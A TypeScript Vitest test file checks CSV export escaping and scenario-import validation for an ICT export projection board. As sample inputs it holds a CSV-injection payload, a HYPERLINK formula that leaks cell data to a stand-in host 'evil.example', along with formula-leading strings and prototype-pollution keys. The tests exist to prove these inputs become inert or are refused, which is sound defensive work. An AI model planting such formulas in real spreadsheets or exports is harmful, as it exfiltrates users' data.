import { describe, expect, it } from 'vitest';
import * as Y from 'yjs';
import { ASSUMPTION_IDS, project } from '../model';
import { ImportError, csvText, parseScenarioImport, projectionCsv } from './exchange';
import { initBoard, readBoard } from './boardState';

/** RFC 4180 fields of one CSV record (quoted fields may hold commas and doubled quotes). */
function fields(line: string): string[] {
  const out: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,]*)(,|$)/g;
  for (let m = re.exec(line); m && m.index < line.length; m = re.exec(line)) {
    const raw = m[1]!;
    out.push(raw.startsWith('"') ? raw.slice(1, -1).replace(/""/g, '"') : raw);
  }
  return out;
}

describe('CSV export', () => {
  it('quotes every text field and makes formulas inert (CSV injection)', () => {
    expect(csvText('Baseline')).toBe('"Baseline"');
    expect(csvText('=1+1')).toBe(`"'=1+1"`);
    for (const lead of ['+', '-', '@', '\t', '\r']) expect(csvText(`${lead}x`)).toMatch(/^"'/);
    expect(csvText('\n =cmd')).toBe(`"'  =cmd"`);
    expect(csvText('a "b", c')).toBe('"a ""b"", c"');
    expect(csvText('2 rows\r\nhere')).toBe('"2 rows  here"');
  });

  it('a hand-made scenario id and name with a formula, quotes, commas and newlines stay on one row each year, inert', () => {
    const doc = new Y.Doc();
    initBoard(doc, { title: 'Injected' });
    const board = readBoard(doc);
    const evilId = '=HYPERLINK("http://evil.example/?"&A1,"x")';
    const evilName = '@SUM(1,2)\n"quoted", with commas\r\n=2+2';
    board.scenarios[0] = { ...board.scenarios[0]!, id: evilId, name: evilName };

    const csv = projectionCsv(board);
    const lines = csv.trimEnd().split('\r\n');
    const years = project(board.scenarios[0].values).years;
    expect(lines).toHaveLength(1 + years.length);
    expect(csv.split(/\r\n|\n|\r/).filter(Boolean)).toHaveLength(1 + years.length);
    const head = fields(lines[0]!);
    expect(head.slice(0, 9)).toEqual([
      'Scenario',
      'Year',
      'Total exports (USD)',
      'Existing firms (USD)',
      'New services (USD)',
      'New products (USD)',
      'Freelancers (USD)',
      'Without the programme (USD)',
      'Targets',
    ]);
    // Every assumption, with its unit, then the decision and the id.
    expect(head).toContain('Freelancer conversion rate (%)');
    // A new board is model v2: every assumption there is, programme included.
    expect(board.meta.modelVersion).toBe(2);
    expect(head).toHaveLength(11 + ASSUMPTION_IDS.length + 3);
    expect(head.slice(9, 11)).toEqual(['Kind', 'Source']);
    expect(head.slice(-3)).toEqual(['Model', 'Decision on record', 'Scenario id']);
    for (const [i, line] of lines.slice(1).entries()) {
      const row = fields(line);
      expect(row).toHaveLength(head.length);
      expect(row.at(-1)).toBe(`'${evilId}`);
      expect(row[0]).toBe(`'@SUM(1,2) "quoted", with commas  =2+2`);
      expect(row[1]).toBe(String(years[i]!.year));
      expect(row[2]).toBe(String(Math.round(years[i]!.total)));
      expect(row[8]).toBe('$5B policy target; $10B-$18B aspiration by 2028');
      expect(row[head.indexOf('Freelancer conversion rate (%)')]).toBe(
        String(board.scenarios[0].values.conversionRate),
      );
      expect(row[head.indexOf('Model')]).toBe(`pk-ict-exports v${board.meta.modelVersion}`);
      // No field a spreadsheet would evaluate.
      for (const f of row) expect(f).not.toMatch(/^[=+\-@\t\r]/);
    }
  });
});

describe('parseScenarioImport', () => {
  it('reads a single scenario object', () => {
    const [scenario] = parseScenarioImport({ name: 'Bold', assumptions: { conversionRate: 6 } });
    expect(scenario!.name).toBe('Bold');
    expect(scenario!.values).toEqual({ conversionRate: 6 });
  });

  it.each([
    [{ name: 'x', assumptions: { notAThing: 1 } }, 'assumptions.notAThing'],
    // Keys a record parser may drop quietly must still be refused by name.
    [JSON.parse('{"name":"x","assumptions":{"constructor":1}}'), 'assumptions.constructor'],
    [
      { scenarios: [{ name: 'x', assumptions: { prototype: 1 } }] },
      'scenarios[0].assumptions.prototype',
    ],
    [{ name: 'x', assumptions: { conversionRate: 51 } }, 'assumptions.conversionRate'],
  ])('refuses %j naming %s', (input, field) => {
    let error: unknown;
    try {
      parseScenarioImport(input);
    } catch (err) {
      error = err;
    }
    expect(error).toBeInstanceOf(ImportError);
    expect((error as ImportError).field).toBe(field);
  });

  it('refuses an array where the assumptions belong', () => {
    expect(() => parseScenarioImport({ name: 'x', assumptions: [] })).toThrow(ImportError);
  });
});
